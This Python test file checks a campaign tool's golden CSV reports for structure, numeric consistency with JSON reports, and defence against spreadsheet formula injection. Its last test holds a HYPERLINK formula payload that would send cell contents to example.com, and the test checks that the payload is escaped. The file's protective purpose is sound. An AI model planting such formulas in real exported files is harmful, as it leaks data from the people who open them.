"""The CSV reports of tests/golden, which the unit tests hold the program to, as a spreadsheet sees
them."""

import csv
import io
import json
import re

import pytest

import tool

GOLDEN = tool.ROOT / "tests" / "golden" / "report"
FILES = sorted(p.name for p in GOLDEN.glob("*.csv"))
NUMBER = re.compile(r"-?\d+(\.\d\d)?$")
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
COUNTERS = ("sent", "delivered", "read", "failed", "total")


def text_of(name):
    return (GOLDEN / name).read_bytes().decode("utf-8")


def rows_of(name):
    return list(csv.DictReader(io.StringIO(text_of(name), newline=""), strict=True))


def computed(cell):
    """Would a spreadsheet compute the cell?"""
    return cell.lstrip(" \u00a0\u3000\"'")[:1] in tuple(SIGNS) and not NUMBER.match(cell)


def test_there_are_reports():
    assert len(FILES) >= 8


@pytest.mark.parametrize("name", FILES)
def test_a_report_is_one_table_with_a_line_for_each_row(name):
    text = text_of(name)
    lines = text.split("\r\n")
    assert lines.pop() == ""
    assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", "".join(lines))
    table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(table) == len(lines) > 1
    assert {len(row) for row in table} == {len(set(table[0]))}


@pytest.mark.parametrize("name", FILES)
def test_nothing_is_computed_whatever_the_separator(name):
    text = text_of(name)
    for row in csv.reader(io.StringIO(text, newline=""), strict=True):
        assert not [cell for cell in row if computed(cell) and not cell.startswith("'")]
    for cell in re.split("[;\r\n]", text):
        assert not computed(cell) or cell.lstrip(" ").startswith("'"), cell


@pytest.mark.parametrize("name", [n for n in FILES if "corrections" not in n])
def test_numbers_are_numbers(name):
    for row in rows_of(name):
        for column in ("stored", "recomputed", "difference", "corrections"):
            assert NUMBER.match(row[column]) or (column == "stored" and row[column] == "")
        assert int(row["difference"]) == int(row["recomputed"]) - int(row["stored"] or 0)
        if row["counter"] in ("delivered", "read"):
            assert NUMBER.match(row["recomputed_rate"])
            assert row["rate_of"] == {"delivered": "sent", "read": "delivered"}[row["counter"]]
        else:
            assert row["stored_rate"] == row["recomputed_rate"] == row["rate_of"] == ""


def test_the_counters_are_those_of_the_json_report():
    report = json.loads((GOLDEN / "details.json").read_text())  # with -v
    rows = rows_of("verbose.csv")
    assert [(r["campaign"], r["counter"]) for r in rows] == [
        (c["id"], counter) for c in report["campaigns"] for counter in COUNTERS]
    for row, (campaign, counter) in zip(rows, [(c, k) for c in report["campaigns"] for k in COUNTERS]):
        held = campaign["counters"][counter]
        assert row["run"] == report["run"]["id"]
        assert row["campaign_name"] == campaign["name"]
        assert row["tenant_id"] == campaign["tenant_id"]
        assert int(row["corrections"]) == campaign["corrections"]
        assert (int(row["stored"]) if row["stored"] else None) == held["stored"]
        assert int(row["recomputed"]) == held["recomputed"]
        if counter in ("delivered", "read"):
            rate = {"delivered": "delivery_rate", "read": "read_rate"}[counter]
            assert float(row["recomputed_rate"]) == campaign[rate]
        if held["stored"] == held["recomputed"]:
            assert row["outcome"] == "same"


@pytest.mark.parametrize("table,report", [("corrections.csv", "details.json"),
                                          ("applied-corrections.csv", "applied.json")])
def test_the_corrections_are_those_of_the_json_report(table, report):
    expected = json.loads((GOLDEN / report).read_text())["corrections"]
    rows = [r for r in rows_of(table) if r["outcome"] in ("planned", "written")]
    assert len(rows) == len(expected) > 0
    for row, c in zip(rows, expected):
        for name in ("campaign", "campaign_contact", "cause"):
            assert row[name] == c[name]
        assert row["message_id"] == (c["message_id"] or "")
        for value in c["before"]:
            assert row[value + "_before"] == (c["before"][value] or "")
            assert row[value + "_after"] == (c["after"][value] or "")
        for m in COUNTERS[:4]:
            archive, record = c["evidence"].get(m, ("", ""))
            assert (row[m + "_archive"], row[m + "_record"]) == (archive, str(record))


def test_what_became_of_each_correction_is_told():
    assert [r["outcome"] for r in rows_of("corrections.csv")] == ["planned"] * 4 + ["left_alone"] * 2
    assert [r["outcome"] for r in rows_of("applied-corrections.csv")] == [
        "written", "conflict", "busy", "left_alone", "left_alone"]
    assert {r["outcome"] for r in rows_of("refused-corrections.csv")} == {"not_written"}


def test_null_is_nothing_and_an_empty_text_is_in_quotes():
    text = text_of("corrections.csv")
    assert ',"","number ""not"" on WhatsApp",' in text
    assert [r["stored"] for r in rows_of("counters.csv")].count("") == 1


def test_a_name_that_is_a_formula_begins_with_an_apostrophe():
    names = {r["campaign_name"] for r in rows_of("hostile-counters.csv")}
    assert "'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")" in names, names
